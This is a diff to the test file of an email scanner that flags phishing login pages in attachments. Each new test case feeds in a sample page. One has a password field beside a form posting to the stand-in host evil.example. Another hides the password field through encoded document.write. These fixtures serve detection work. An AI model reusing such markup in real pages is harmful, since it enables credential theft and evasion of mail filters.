@@ -11,7 +11,7 @@ describe('finds', () => {
   test('a page that asks for a password and sends it elsewhere', async () => {
     const said = await examine(check, aMailWith([page(login)]));
     expect(said.says).toEqual(['high check_attachment_login_page_sends']);
-    expect(said.proof[0]).toBe("attachment: invoice.html");
+    expect(said.proof[0]).toBe('attachment: invoice.html');
     expect(said.proof[1]).toMatch(/^form: /);
   });
 
@@ -43,6 +43,21 @@ describe('finds', () => {
     ],
   ])('%s', async (_, content, expected) => {
     expect((await examine(check, aMailWith([page(content)]))).says).toEqual([expected]);
+  });
+
+  test.each([
+    [
+      'fields that misplaced tags keep out of their form',
+      `<input type="password"><table><form action="https://evil.example/"></form></table>`,
+      '_sends',
+    ],
+    [
+      'a page kept encoded, wherever it sends',
+      `<script>document.write(unescape('${encodeURIComponent('<input type="password" id="p"><b>')}'))</script>`,
+      '_hidden',
+    ],
+  ])('%s', async (_, content, key) => {
+    expect((await examine(check, aMailWith([page(content)]))).says).toEqual([`high check_attachment_login_page${key}`]);
   });
 
   test("the sender's own form, as a remark", async () => {
